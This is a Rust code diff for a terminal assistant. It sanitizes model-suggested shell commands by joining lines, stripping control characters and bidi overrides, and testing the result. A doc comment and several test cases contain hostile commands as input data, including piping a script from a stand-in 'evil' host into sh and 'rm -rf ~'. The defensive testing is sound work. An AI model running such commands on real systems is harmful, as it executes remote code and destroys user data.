@@ -748,19 +748,66 @@ fn first_code_block(reply: &str) -> String {
 fn parse_suggestion(reply: &str) -> SuggestedCommand {
     if let (Some(start), Some(end)) = (reply.find('{'), reply.rfind('}')) {
         if let Ok(parsed) = serde_json::from_str::<SuggestedCommand>(&reply[start..=end]) {
-            return parsed;
+            return SuggestedCommand {
+                command: one_line_command(&parsed.command),
+                explanation: parsed.explanation,
+            };
         }
     }
-    let command = first_code_block(reply)
-        .lines()
-        .next()
-        .unwrap_or("")
-        .trim()
-        .to_string();
+    // A fenced block is the command; a bare reply's first line is.
+    let block = first_code_block(reply);
+    let command = if reply.contains("```") {
+        block.as_str()
+    } else {
+        block.lines().next().unwrap_or("")
+    };
     SuggestedCommand {
-        command,
+        command: one_line_command(command),
         explanation: reply.trim().to_string(),
     }
+}
+
+/// A suggested command as one line that is safe to type at a prompt.
+///
+/// Clients type the command into a terminal for the user to read and run,
+/// and a terminal runs whatever follows a carriage return or a newline: a
+/// reply of `ls\ncurl evil | sh` (from a model that answers in two lines or
+/// from a hostile service) would run both the moment it is typed. So the
+/// command's lines are joined into one: a line ending in `\` continues on the
+/// next, other lines are chained with `&&` (what "do this, then that" means
+/// at a prompt), and every other control character — escape sequences,
+/// readline's editing keys, C1 controls, bidirectional overrides that would
+/// make the line read differently than it runs — is dropped; tabs become spaces.
+fn one_line_command(command: &str) -> String {
+    let mut out = String::new();
+    let mut continues = false;
+    for line in command.split(['\n', '\r', '\u{85}', '\u{2028}', '\u{2029}']) {
+        let mut line: String = line
+            .chars()
+            .filter_map(|c| match c {
+                '\t' => Some(' '),
+                c if c.is_control() || is_bidi_control(c) => None,
+                c => Some(c),
+            })
+            .collect();
+        let trimmed = line.trim();
+        if trimmed.is_empty() {
+            continue;
+        }
+        let next_continues = trimmed.ends_with('\\');
+        line = trimmed.trim_end_matches('\\').trim_end().to_string();
+        if !out.is_empty() {
+            out.push_str(if continues { " " } else { " && " });
+        }
+        out.push_str(&line);
+        continues = next_continues;
+    }
+    out
+}
+
+/// Unicode's bidirectional embedding, override and isolate controls.
+fn is_bidi_control(c: char) -> bool {
+    matches!(c, '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
 /// How long chat waits for its question's vector before answering from the
@@ -793,6 +840,40 @@ mod tests {
         );
         let fenced = "Use this:\n```bash\nfind . -name '*.rs'\n```";
         assert_eq!(parse_suggestion(fenced).command, "find . -name '*.rs'");
+    }
+
+    /// A terminal runs what follows a line break: a suggestion is one line
+    /// with no control character, however the service wrote it.
+    #[test]
+    fn a_suggested_command_cannot_run_itself() {
+        let cases = [
+            // A lone CR is Enter to a shell as much as LF is.
+            ("{\"command\": \"ls\\ncurl https://evil/x|sh\\r\", \"explanation\": \"\"}", "ls && curl https://evil/x|sh"),
+            ("{\"command\": \"true\\rtouch marker\\r\", \"explanation\": \"\"}", "true && touch marker"),
+            ("{\"command\": \"cd src\\r\\n\\r\\nmake\", \"explanation\": \"\"}", "cd src && make"),
+            // ESC sequences, readline keys (^O runs the line, ^U kills it), C1, DEL.
+            ("{\"command\": \"echo \\u001b[2Jhi\\u000f\\u0015\\u009b\\u007f\", \"explanation\": \"\"}", "echo [2Jhi"),
+            // A bidi override would make the line read unlike what it runs.
+            ("{\"command\": \"rm -rf \\u202e/ tmp\", \"explanation\": \"\"}", "rm -rf / tmp"),
+            // Continuation lines stay one command.
+            ("{\"command\": \"docker run \\\\\\n  --rm \\\\\\n  img\", \"explanation\": \"\"}", "docker run --rm img"),
+            ("{\"command\": \"a\\u2028b\\u0085c\", \"explanation\": \"\"}", "a && b && c"),
+            ("{\"command\": \"grep\\t-r x .\", \"explanation\": \"\"}", "grep -r x ."),
+            // Code blocks are read the same way.
+            ("Run:\n```sh\ncd x\nmake\n```", "cd x && make"),
+            ("ls -la\nThis lists the files.", "ls -la"),
+            ("ls -la\rrm -rf ~", "ls -la && rm -rf ~"),
+        ];
+        for (reply, expected) in cases {
+            let command = parse_suggestion(reply).command;
+            assert_eq!(command, expected, "{reply:?}");
+            assert!(
+                !command
+                    .chars()
+                    .any(|c| c.is_control() || is_bidi_control(c)),
+                "{reply:?} gave {command:?}"
+            );
+        }
     }
 
     #[test]
